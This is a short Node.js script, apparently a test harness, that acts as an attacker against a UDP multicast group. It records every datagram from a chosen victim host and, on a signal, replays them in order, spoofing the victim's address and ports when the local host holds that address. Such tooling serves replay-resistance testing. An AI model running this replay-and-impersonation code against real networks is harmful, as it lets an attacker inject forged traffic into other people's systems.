// An attacker who records all that one host says to the group, byte for byte, and plays it back in order at each SIGUSR2:
// from the recorded address and port where its own host has that address by then, else from its own.
import { createSocket } from 'node:dgram';
import { networkInterfaces } from 'node:os';
import { parseArgs } from 'node:util';

const { values } = parseArgs({
  options: {
    group: { type: 'string' },
    port: { type: 'string' },
    /** Of the interface to join on. */
    address: { type: 'string' },
    /** Whom to record. */
    victim: { type: 'string' },
  },
});
const { group, address, victim } = values;
const port = Number(values.port);
const tell = (event, fields) => process.stdout.write(`${JSON.stringify({ event, ...fields })}\n`);

const recorded = [];
const ear = createSocket({ type: 'udp4', reuseAddr: true });
let playing = false;
ear.on('message', (bytes, from) => {
  if (from.address === victim && !playing) recorded.push({ bytes, port: from.port });
});
ear.bind(port, group, () => {
  ear.addMembership(group, address);
  tell('recording', {});
});

function hasAddress(wanted) {
  return Object.values(networkInterfaces()).some((all) => all?.some((each) => each.address === wanted));
}

function mouth(from, fromPort) {
  const socket = createSocket({ type: 'udp4', reuseAddr: true });
  return new Promise((resolve) =>
    socket.bind(fromPort, from, () => {
      socket.setMulticastInterface(from);
      resolve(socket);
    }),
  );
}

async function play() {
  playing = true;
  const disguised = hasAddress(victim);
  const sockets = new Map();
  for (const { bytes, port: fromPort } of recorded) {
    const key = disguised ? fromPort : 0;
    if (!sockets.has(key)) sockets.set(key, await mouth(disguised ? victim : address, key));
    await new Promise((resolve) => sockets.get(key).send(bytes, port, group, resolve));
  }
  for (const socket of sockets.values()) socket.close();
  tell('played', { frames: recorded.length, disguised });
}

process.on('SIGUSR2', () => void play());
